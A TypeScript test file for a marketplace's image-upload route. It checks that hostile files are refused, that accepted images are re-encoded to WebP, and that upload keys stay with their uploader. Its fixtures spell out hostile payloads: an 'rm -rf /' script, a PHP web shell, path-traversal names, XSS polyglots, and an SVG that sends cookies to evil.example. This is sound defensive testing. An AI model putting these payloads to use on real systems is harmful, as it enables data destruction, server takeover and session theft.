import { randomUUID } from 'node:crypto';
import { mkdtemp, readdir, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import sharp from 'sharp';
import { UPLOAD_KEY_PATTERN } from '@curio/shared';
import { startServer, type RunningServer } from '../../server/src/server.ts';
import { loadConfig } from '../../server/src/config.ts';
import { ManualClock } from '../../server/src/clock.ts';
import { createSession } from '../../server/src/domain/accounts/sessions.ts';
import { describe, expect, test } from '../helpers/fixtures.ts';
import { callerFor } from '../helpers/services.ts';
import type { TestDatabase } from '../helpers/test-db.ts';
import { insertTestUser, type TestUser } from '../helpers/users.ts';
import { fund } from '../integration/ledger/ledger-fixtures.ts';
import { tableCounts } from './support.ts';

/**
 * Upload abuse (rule I-15) against the real route (server/src/http/uploads.ts over HTTP): hostile
 * files are refused with their code and leave nothing on disk or in the database; what is
 * accepted is re-encoded and served with a sniff-proof content type. Last, ADR 0021: a key is
 * usable only by the member who uploaded it.
 */
let db: TestDatabase;
let running: RunningServer;
let dataDir: string;
let memberA: TestUser;
let memberB: TestUser;
let cookieA: string;
const clock = new ManualClock(new Date('2026-11-21T08:00:00Z'));

// a server of this file's own, over the file's database: DATA_DIR inside a temporary root and a manual clock
test.beforeAll(async ({ db: fileDb }) => {
  db = fileDb;
  // a parent directory of our own, so "nothing written outside DATA_DIR" can be checked
  const root = await mkdtemp(path.join(tmpdir(), 'curio-abuse-uploads-'));
  dataDir = path.join(root, 'data');
  const config = { ...loadConfig({}), port: 0, host: '127.0.0.1', dataDir, ratesUrl: 'http://127.0.0.1:9/' };
  running = await startServer(config, { dbHandle: db, jobs: false, clock });
  memberA = await insertTestUser(db.db, { nickname: 'uploader-a' });
  memberB = await insertTestUser(db.db, { nickname: 'borrower-b' });
  await fund(db.db, memberB.id, 'points', 100);
  cookieA = `curio_session=${(await createSession(db.db, clock, memberA.id)).token}`;
});

test.afterAll(async () => {
  await running?.close();
  if (dataDir) await rm(path.dirname(dataDir), { recursive: true, force: true });
});

interface UploadAnswer {
  status: number;
  body: { key?: string; url?: string; error?: { code: string; params?: Record<string, unknown> } };
}

async function upload(bytes: Buffer | Blob, filename: string, type = 'image/png', purpose = 'listing'): Promise<UploadAnswer> {
  const form = new FormData();
  form.append('file', bytes instanceof Blob ? bytes : new Blob([new Uint8Array(bytes)], { type }), filename);
  const response = await fetch(`${running.url}/api/uploads?purpose=${purpose}`, { method: 'POST', body: form, headers: { cookie: cookieA } });
  return { status: response.status, body: (await response.json()) as UploadAnswer['body'] };
}

/** Every file under the temporary root (DATA_DIR and its parent), so a write outside shows up too. */
async function filesOnDisk(): Promise<string[]> {
  const entries = await readdir(path.dirname(dataDir), { recursive: true, withFileTypes: true });
  return entries
    .filter((e) => e.isFile())
    .map((e) => path.join(e.parentPath, e.name))
    .sort();
}

function png(width = 16, height = 16): Promise<Buffer> {
  return sharp({ create: { width, height, channels: 3, background: { r: 10, g: 200, b: 90 } } })
    .png()
    .toBuffer();
}

/** Refused with `status`/`code`, and neither a file nor a row appeared. */
async function expectRefusedAndNothingStored(send: () => Promise<UploadAnswer>, status: number, code: string) {
  const filesBefore = await filesOnDisk();
  const rowsBefore = await tableCounts(db.db);
  const answer = await send();
  expect(answer.status, JSON.stringify(answer.body)).toBe(status);
  expect(answer.body.error?.code).toBe(code);
  expect(answer.body.key).toBeUndefined();
  expect(await filesOnDisk()).toEqual(filesBefore);
  expect(await tableCounts(db.db)).toEqual(rowsBefore);
  return answer;
}

describe('hostile files are refused, and nothing is stored', () => {
  test('a shell script renamed .png', async () => {
    const script = Buffer.from('#!/bin/sh\nrm -rf / --no-preserve-root\n');
    await expectRefusedAndNothingStored(() => upload(script, 'holiday.png'), 415, 'UPLOAD_NOT_AN_IMAGE');
  });

  test('a 50 MB file is cut off at the raw cap with UPLOAD_TOO_LARGE', async () => {
    // a real PNG header followed by 50 MB, so only the size can refuse it
    const big = new Blob([new Uint8Array(await png()), new Uint8Array(50 * 1024 * 1024)], { type: 'image/png' });
    const answer = await expectRefusedAndNothingStored(() => upload(big, 'huge.png'), 413, 'UPLOAD_TOO_LARGE');
    expect(answer.body.error?.params).toEqual({ maxBytes: 5 * 1024 * 1024 });
  });

  test('a path-traversal file name with a script inside', async () => {
    for (const filename of ['../../../../tmp/pwned.png', '..\\..\\pwned.png', '/etc/cron.d/pwned.png', '%2e%2e%2fpwned.png']) {
      await expectRefusedAndNothingStored(() => upload(Buffer.from('<?php system($_GET["c"]); ?>'), filename), 415, 'UPLOAD_NOT_AN_IMAGE');
    }
  });

  test('an SVG with a script, under any name and type', async () => {
    const svg = Buffer.from(
      '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)" width="64" height="64">' +
        '<script>fetch("https://evil.example/?c="+document.cookie)</script><rect width="64" height="64"/></svg>',
    );
    for (const [filename, type] of [
      ['x.svg', 'image/svg+xml'],
      ['x.png', 'image/png'],
      ['x.jpg', 'image/jpeg'],
    ] as const) {
      await expectRefusedAndNothingStored(() => upload(svg, filename, type), 415, 'UPLOAD_NOT_AN_IMAGE');
    }
  });

  test('an HTML page, and a GIF-header/HTML polyglot, with image extensions', async () => {
    const html = Buffer.from('<!doctype html><html><body><script>alert(document.domain)</script></body></html>');
    await expectRefusedAndNothingStored(() => upload(html, 'page.png'), 415, 'UPLOAD_NOT_AN_IMAGE');
    const polyglot = Buffer.concat([Buffer.from('GIF89a\x10\x00\x10\x00\x80\x00\x00', 'latin1'), html]);
    await expectRefusedAndNothingStored(() => upload(polyglot, 'anim.gif', 'image/gif'), 415, 'UPLOAD_NOT_AN_IMAGE');
  });
});

describe('what is accepted is neutralised', () => {
  test('a decodable PNG with HTML appended is re-encoded: the stored bytes are WebP without the payload, served as image/webp with nosniff', async () => {
    const payload = '<html><script>alert(document.cookie)</script></html>';
    const polyglot = Buffer.concat([await png(), Buffer.from(payload)]);
    const answer = await upload(polyglot, 'innocent.html', 'text/html');
    expect(answer.status).toBe(201);
    expect(answer.body.key).toMatch(UPLOAD_KEY_PATTERN);

    const served = await fetch(`${running.url}${answer.body.url}`);
    expect(served.status).toBe(200);
    expect(served.headers.get('content-type')).toBe('image/webp');
    expect(served.headers.get('x-content-type-options')).toBe('nosniff');
    expect(served.headers.get('content-security-policy')).toMatch(/default-src 'none'; sandbox/);
    const bytes = Buffer.from(await served.arrayBuffer());
    expect(bytes.subarray(0, 4).toString('latin1')).toBe('RIFF');
    expect(bytes.subarray(8, 12).toString('latin1')).toBe('WEBP');
    expect(bytes.toString('latin1')).not.toContain('<script');
  });

  test('a real image under a traversal name is stored under a server-chosen key inside DATA_DIR only', async () => {
    const before = await filesOnDisk();
    const answer = await upload(await png(), '../../../../pwned.png');
    expect(answer.status).toBe(201);
    expect(answer.body.key).toMatch(/^listing\/2026\/11\/[0-9a-f-]{36}\.webp$/);
    const added = (await filesOnDisk()).filter((file) => !before.includes(file));
    expect(added).toEqual([path.join(dataDir, 'uploads', answer.body.key!)]);
    expect(added.join()).not.toContain('pwned');
  });
});

describe('ADR 0021: an upload key is usable only by its uploader', () => {
  async function freshKeyOfA(): Promise<string> {
    const answer = await upload(await png(32, 32), 'mine.png');
    expect(answer.status).toBe(201);
    return answer.body.key!;
  }

  function listingWith(images: string[]) {
    return {
      title: 'Borrowed photo',
      description: 'This listing uses a photo someone else uploaded.',
      category: 'goods' as const,
      unit: 'piece' as const,
      quantity: 1,
      priceCents: 1_000,
      images,
      idempotencyKey: randomUUID(),
    };
  }

  test("member B is refused A's fresh upload key like a key nobody uploaded, and nothing is stored", async () => {
    const key = await freshKeyOfA();
    const b = await callerFor(running.services, memberB.id);
    await fund(db.db, memberB.id, 'points', 1);
    const before = await tableCounts(db.db);
    await expect(b.marketplace.listings.create(listingWith([key]))).rejects.toThrow('LISTING_IMAGE_MISSING');
    expect(await tableCounts(db.db)).toEqual(before);
    // A's file is untouched and A can still publish it
    expect((await fetch(`${running.url}/uploads/${key}`)).status).toBe(200);
    await fund(db.db, memberA.id, 'points', 1);
    const a = await callerFor(running.services, memberA.id);
    const created = await a.marketplace.listings.create(listingWith([key]));
    const row = await db.db.selectFrom('listings').select(['seller_id', 'images']).where('id', '=', created.id).executeTakeFirstOrThrow();
    expect(row).toEqual({ seller_id: memberA.id, images: [key] });
  });
});
